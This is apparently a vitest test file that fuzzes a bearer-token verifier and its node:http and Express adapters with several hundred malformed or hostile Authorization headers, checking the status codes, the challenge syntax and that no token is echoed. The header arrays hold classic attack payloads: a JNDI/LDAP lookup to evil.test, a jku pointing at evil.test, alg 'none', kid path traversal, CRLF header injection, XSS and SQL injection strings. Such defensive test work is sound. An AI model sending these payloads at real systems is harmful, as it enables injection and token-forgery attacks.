/**
 * Hostile `Authorization` headers (RFC 6750 §2.1, §3): a corpus of a few hundred values — random bytes,
 * unicode, control characters, huge lengths, near-valid JWTs, scheme and separator variants, attempts to
 * inject parameters into the challenge — sent through `createVerifier` (as a header value and as a Node
 * request), the node:http adapter, and Express over a real socket. Every answer must be a 400/401/403/503,
 * never a throw or a 500; 400/401/403 carry a `WWW-Authenticate` of valid RFC 6750 §3 syntax (503 a
 * `Retry-After`); and no part of the presented token may come back in the answer.
 */
import { type Server, createServer, request as httpRequest, validateHeaderValue } from 'node:http';
import type { AddressInfo } from 'node:net';
import express from 'express';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearerAuth as expressAuth } from '../../src/server/adapters/express.js';
import { bearerAuth as nodeAuth } from '../../src/server/adapters/node.js';
import { type Verifier, createVerifier, failureResponse } from '../../src/server/index.js';
import {
  API_RESOURCE,
  type TestAuthorizationServer,
  startAuthorizationServer,
} from '../support/authorization-server.js';
import { forge, issueToken, segment } from '../server/support.js';

let as: TestAuthorizationServer;
let verify: Verifier;
let valid: string;

beforeAll(async () => {
  as = await startAuthorizationServer({ accessTokenTtl: 600 });
  verify = createVerifier({ issuer: as.issuer, audience: API_RESOURCE, allowInsecureRequests: true });
  valid = (await issueToken(as, { scope: 'read' })).accessToken;
});
afterAll(() => as.close());

/** Deterministic, so that a failing value can be found again (xorshift32). */
function prng(seed: number): () => number {
  let x = seed;
  return () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return (x >>> 0) / 0x1_0000_0000;
  };
}

interface Hostile {
  /** What the corpus entry is, for the failure message. */
  name: string;
  /** The Authorization header value(s): more than one is several headers. */
  values: string[];
  /** A part of the presented token that must never come back (at least 12 characters, random). */
  secret: string;
}

const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

function corpus(realToken: string, forged: string): Hostile[] {
  const random = prng(0x6750);
  const int = (n: number) => Math.floor(random() * n);
  const b64 = (n: number) => Array.from({ length: n }, () => B64URL[int(64)]).join('');
  const bytes = (n: number) => Array.from({ length: n }, () => String.fromCharCode(int(256))).join('');
  const unicode = (n: number) =>
    Array.from({ length: n }, () => {
      const pick = int(6);
      if (pick === 0) return String.fromCharCode(0xd800 + int(0x800)); // a lone surrogate
      if (pick === 1) return String.fromCodePoint(0x1f300 + int(0x300)); // emoji
      if (pick === 2) return ['\u200b', '\u202e', '\ufeff', '\u2028', '\u00a0', '\u3000'][int(6)] as string;
      if (pick === 3) return String.fromCharCode(0x80 + int(0x780));
      return String.fromCharCode(0x4e00 + int(0x5000));
    }).join('');
  const out: Hostile[] = [];
  const add = (name: string, make: (secret: string) => string | string[], secret = b64(16)) => {
    const made = make(secret);
    out.push({ name, values: Array.isArray(made) ? made : [made], secret });
  };
  // Random bytes and unicode, as the token and as the whole value.
  for (let i = 0; i < 60; i++) {
    const secret = b64(16) + bytes(6 + int(60)); // a plain prefix: an escaped echo of it is still found
    add(`random bytes ${i}`, (s) => (i % 3 === 0 ? s : `Bearer ${s}`), secret);
  }
  for (let i = 0; i < 40; i++) {
    const secret = b64(16) + unicode(4 + int(30));
    add(`unicode ${i}`, (s) => (i % 4 === 0 ? `${unicode(3)} ${s}` : `Bearer ${s}`), secret);
  }
  // Control characters at the start, inside and at the end of the token, and between scheme and token.
  const controls = ['\u0000', '\t', '\n', '\r', '\r\n', '\u000b', '\u000c', '\u001b', '\u007f', '\u0085'];
  for (const c of controls) {
    const code = c.charCodeAt(0).toString(16);
    add(`control ${code} inside`, (s) => `Bearer ${s.slice(0, 8)}${c}${s.slice(8)}`);
    add(`control ${code} before`, (s) => `Bearer ${c}${s}`);
    add(`control ${code} after`, (s) => `Bearer ${s}${c}`);
    add(`control ${code} as separator`, (s) => `Bearer${c}${s}`);
    add(`control ${code} injected header`, (s) => `Bearer ${s}${c}Set-Cookie: session=${s}`);
  }
  // Lengths around and far past maxTokenLength (16 384).
  for (const n of [16_383, 16_384, 16_385, 16_448, 16_449, 65_536, 1024 * 1024]) {
    add(`length ${n}`, (s) => `Bearer ${s}${'A'.repeat(Math.max(0, n - s.length))}`);
    add(`length ${n}, raw`, (s) => `${s}${b64(8)}.${'B'.repeat(Math.max(0, n - s.length))}`);
  }
  // Near-valid JWTs: the real one changed a little, and shapes a parser might choke on.
  const [h, p, sig] = realToken.split('.') as [string, string, string];
  const [fh, fp, fs] = forged.split('.') as [string, string, string];
  const jwtShapes: ((s: string) => string)[] = [
    (s) => `${h}.${p}.${s}`,
    (s) => `${h}.${s}.${sig}`,
    (s) => `${s}.${p}.${sig}`,
    (s) => `${h}.${p}.${sig}${s}`,
    (s) => `${h}.${p}.${sig}.${s}`,
    (s) => `${h}.${p}${s}`,
    (s) => `${h}..${s}`,
    (s) => `..${s}`,
    (s) => `${s}..`,
    (s) => `${h}.${p}.${sig}=${s}`,
    (s) => `${h}=.${p}.${s}`,
    (s) => `${h}.${p}.${s}==`,
    (s) => `${h.replace(/-/g, '+').replace(/_/g, '/')}.${p}.${s}`,
    (s) => `${fh}.${fp}.${s}`,
    (s) => `${fh}.${segment({ sub: s, scope: 'admin' })}.${fs}`,
    (s) => `${segment({ alg: 'none', kid: s })}.${p}.`,
    (s) => `${segment({ alg: 'RS256', kid: s })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'RS256', kid: '../'.repeat(50) + s })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'HS256', kid: s })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'RS256', crit: [s], [s]: true })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'RS256', typ: s })}.${p}.${sig}`,
    (s) => `${segment({ alg: 'RS256', jku: `https://evil.test/${s}` })}.${p}.${sig}`,
    (s) => `${segment(`{"alg":"RS256","kid":"${s}"`)}.${p}.${sig}`,
    (s) => `${segment('['.repeat(5000))}.${s}.${sig}`,
    (s) => `${segment({ alg: 'RS256' })}.${segment('{"exp":1e400,"sub":"' + s + '"}')}.${sig}`,
    (s) => `${h}.${p}.${sig}`.replace(sig.slice(0, 16), s),
  ];
  for (const [i, shape] of jwtShapes.entries()) {
    add(`near-valid JWT ${i}`, (s) => `Bearer ${shape(s)}`);
    add(`near-valid JWT ${i}, raw`, (s) => shape(s));
    add(`near-valid JWT ${i}, lower case scheme`, (s) => `bearer ${shape(s)}`);
  }
  for (let i = 0; i < 30; i++) {
    // One character of the real token replaced (the secret rides along at the end, where nothing parses it).
    const at = int(realToken.length);
    const replacement = [' ', '"', '\\', ',', '=', '.', '\t', '%', '$', 'é'][int(10)] as string;
    add(
      `real token, character ${at} replaced`,
      (s) => `Bearer ${realToken.slice(0, at)}${replacement}${realToken.slice(at + 1)}${s}`,
    );
  }
  // Schemes and separators.
  const schemes: ((s: string) => string | string[])[] = [
    (s) => `BEARER ${s}`,
    (s) => `bEaReR ${s}`,
    (s) => `Bearer     ${s}`,
    (s) => `Bearer ${s}    `,
    (s) => `   Bearer ${s}`,
    (s) => `Bearer\t${s}`,
    (s) => `Bearer \t ${s}`,
    (s) => `Bearer,${s}`,
    (s) => `Bearer=${s}`,
    (s) => `Bearer:${s}`,
    (s) => `Bearer${s}`,
    (s) => `Bearer ${s} ${s}`,
    (s) => `Bearer ${s}, Bearer ${s}`,
    (s) => `Bearer ${s},`,
    (s) => `Bearer token="${s}"`,
    (s) => `Bearer realm="x", token=${s}`,
    (s) => `Basic ${s}`,
    (s) => `DPoP ${s}`,
    (s) => `Digest username="${s}"`,
    (s) => `Bearer ${s}=======`,
    (s) => `Bearer =${s}`,
    (s) => `Bearer ${s}%20`,
    (s) => `Bearer ${encodeURIComponent(`${s}"`)}`,
    (s) => [`Bearer ${s}`, `Bearer ${s}`],
    (s) => [`Bearer ${s}`, `Basic ${s}`],
    (s) => [`Bearer ${s}`, ''],
    (s) => ['', `Bearer ${s}`],
    (s) => [`Bearer ${valid}`, `Bearer ${s}`],
    (s) => [`Bearer ${s}`, `Bearer ${s}`, `Bearer ${s}`, `Bearer ${s}`],
  ];
  for (const [i, make] of schemes.entries()) add(`scheme or separator ${i}`, make);
  // Attempts to write into the challenge: quotes, backslashes, parameters, header breaks.
  const injections: ((s: string) => string)[] = [
    (s) => `Bearer ${s}", error="insufficient_scope`,
    (s) => `Bearer ${s}\\", realm="evil`,
    (s) => `Bearer "${s}"`,
    (s) => `Bearer ${s}\\`,
    (s) => `Bearer ${'\\'.repeat(100)}${s}`,
    (s) => `Bearer ${'"'.repeat(100)}${s}`,
    (s) => `Bearer ${s}\r\nWWW-Authenticate: Basic realm="${s}"`,
    (s) => `Bearer ${s}\r\n\r\n<html>${s}</html>`,
    (s) => `Bearer ${s}<script>alert(1)</script>`,
    (s) => `Bearer ${s}'; DROP TABLE tokens; --`,
    (s) => `Bearer ${s}\${jndi:ldap://evil.test/a}`,
    (s) => `Bearer ${s}{{7*7}}`,
    (s) => `Bearer __proto__${s}`,
    (s) => `Bearer constructor.prototype.${s}`,
    (s) => `Bearer ${s}\u0000${valid}`,
    (s) => `Bearer ${valid}\u0000${s}`,
  ];
  for (const [i, make] of injections.entries()) add(`injection ${i}`, make);
  return out;
}

/** RFC 6750 §3 / RFC 7235 §2.1: `scheme param="value"(, param="value")*`, challenges separated by ", ". */
const CHALLENGE_VALUE = /^[\x20\x21\x23-\x5b\x5d-\x7e]*$/; // RFC 6750's characters for error_description, scope, error
const ERRORS: Record<number, (string | undefined)[]> = {
  400: ['invalid_request'],
  401: [undefined, 'invalid_token', 'invalid_dpop_proof', 'use_dpop_nonce'],
  403: ['insufficient_scope'],
};

function checkChallenge(header: string, status: number, context: string): void {
  expect(header, context).not.toMatch(/[\r\n\u0000]/); // eslint-disable-line no-control-regex
  const challenges: { scheme: string; params: Map<string, string> }[] = [];
  let rest = header;
  for (;;) {
    const scheme = /^(Bearer|DPoP)(?= |$)/.exec(rest);
    expect(scheme, `${context}: a challenge starts with its scheme: ${header}`).not.toBeNull();
    const current = { scheme: scheme![1]!, params: new Map<string, string>() };
    challenges.push(current);
    rest = rest.slice(scheme![0].length);
    if (rest === '') break;
    rest = rest.replace(/^ /, '');
    for (;;) {
      const param = /^([a-z_]+)="([^"\\]*)"/.exec(rest);
      expect(param, `${context}: auth-param with a quoted value: ${header}`).not.toBeNull();
      expect(current.params.has(param![1]!), `${context}: ${param![1]} twice`).toBe(false);
      current.params.set(param![1]!, param![2]!);
      rest = rest.slice(param![0].length);
      if (!rest.startsWith(', ')) break;
      rest = rest.slice(2);
      if (/^(Bearer|DPoP)(?= |$)/.test(rest)) break; // the next challenge
    }
    if (rest === '') break;
  }
  for (const { params } of challenges) {
    expect(params.get('realm'), context).toBe('api');
    for (const name of ['error', 'error_description', 'scope']) {
      const value = params.get(name);
      if (value !== undefined) expect(value, `${context}: ${name}`).toMatch(CHALLENGE_VALUE);
    }
  }
  const [first] = challenges;
  expect(ERRORS[status], `${context}: status ${status}`).toContain(first!.params.get('error'));
  if (status !== 401) expect(first!.params.get('error_description'), context).toBeDefined();
}

interface Answer {
  status: number;
  headers: Record<string, string>;
  body: string;
}

function checkAnswer(answer: Answer, entry: Hostile, where: string): void {
  const context = `${where}, ${entry.name}`;
  expect([400, 401, 403, 503], `${context}: status`).toContain(answer.status);
  if (answer.status === 503) expect(answer.headers['retry-after'], context).toMatch(/^\d+$/);
  else checkChallenge(answer.headers['www-authenticate'] ?? '', answer.status, context);
  const text = `${JSON.stringify(answer.headers)}\n${answer.body}`;
  const { secret } = entry;
  expect(text.includes(secret), `${context}: the token came back`).toBe(false);
  for (let i = 0; i + 12 <= secret.length; i += 4) {
    expect(text.includes(secret.slice(i, i + 12)), `${context}: part of the token came back`).toBe(false);
  }
}

function nodeRequest(values: string[]) {
  const rawHeaders = ['Host', 'api.test'];
  for (const value of values) rawHeaders.push('Authorization', value);
  return {
    method: 'GET',
    url: '/orders',
    headers: { host: 'api.test', authorization: values.join(', ') },
    rawHeaders,
  };
}

/** A `ServerResponse` stand-in that records what the adapter wrote. */
function recorder() {
  const answer: Answer & { ends: number } = { status: 200, headers: {}, body: '', ends: 0 };
  const res = {
    get statusCode() {
      return answer.status;
    },
    set statusCode(value: number) {
      answer.status = value;
    },
    setHeader(name: string, value: string) {
      answer.headers[name.toLowerCase()] = value;
    },
    end(chunk?: string) {
      answer.ends += 1;
      answer.body += chunk ?? '';
    },
  };
  return { res, answer };
}

describe('a corpus of hostile Authorization headers', () => {
  let entries: Hostile[];
  beforeAll(async () => {
    entries = corpus(valid, await forge(as, { scope: 'admin' }));
  });

  it('has a few hundred entries', () => {
    expect(entries.length).toBeGreaterThan(300);
  });

  it('createVerifier: resolves to a refusal for each, with a valid challenge and nothing of the token', async () => {
    for (const entry of entries) {
      const inputs =
        entry.values.length === 1 ? [entry.values[0], nodeRequest(entry.values)] : [nodeRequest(entry.values)];
      for (const input of inputs) {
        const where = typeof input === 'string' ? 'verify(header value)' : 'verify(Node request)';
        let result;
        try {
          result = await verify(input);
        } catch (err) {
          throw new Error(`${where}, ${entry.name}: threw ${String(err)}`);
        }
        expect(result.ok, `${where}, ${entry.name}: accepted`).toBe(false);
        if (result.ok) continue;
        const { status, headers, body } = failureResponse(result.failure);
        checkAnswer({ status, headers, body: JSON.stringify(body) }, entry, where);
      }
    }
  });

  it('the node:http adapter: answers each itself, once, never throws or calls the route', async () => {
    const authenticate = nodeAuth({ verifier: verify });
    for (const entry of entries) {
      const { res, answer } = recorder();
      let outcome;
      try {
        outcome = await authenticate(nodeRequest(entry.values), res);
      } catch (err) {
        throw new Error(`node adapter, ${entry.name}: threw ${String(err)}`);
      }
      expect(outcome, `node adapter, ${entry.name}`).toBe(false);
      expect(answer.ends, `node adapter, ${entry.name}: answers once`).toBe(1);
      checkAnswer(answer, entry, 'node adapter');
    }
  });

  it('Express over a real socket: every value Node lets through gets the same kind of answer', async () => {
    const app = express();
    app.get('/orders', expressAuth({ verifier: verify }), (_req, res) => void res.json({ reached: true }));
    // Anything that reaches Express's final handler (a thrown error) would be a 500.
    const server: Server = createServer(app);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    let sent = 0;
    try {
      for (const entry of entries) {
        // What an HTTP client can put on the wire (Node refuses CR, LF, NUL and non-latin1 in a header value),
        // and under Node's 16 KiB header limit, past which Node itself answers 431 before any middleware.
        const sendable = entry.values.every((v) => {
          try {
            validateHeaderValue('authorization', v);
            return [...v].every((c) => c.charCodeAt(0) < 256) && v.length < 15_000;
          } catch {
            return false;
          }
        });
        if (!sendable) continue;
        sent += 1;
        const answer = await new Promise<Answer>((resolve, reject) => {
          const req = httpRequest({ host: '127.0.0.1', port, path: '/orders', method: 'GET' }, (res) => {
            let body = '';
            res.setEncoding('latin1');
            res.on('data', (chunk: string) => (body += chunk));
            res.on('end', () =>
              resolve({ status: res.statusCode ?? 0, headers: res.headers as Record<string, string>, body }),
            );
          });
          req.on('error', reject);
          for (const value of entry.values) req.appendHeader('authorization', value);
          req.end();
        });
        checkAnswer(answer, entry, 'express');
      }
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
    expect(sent).toBeGreaterThan(150);
  });
});
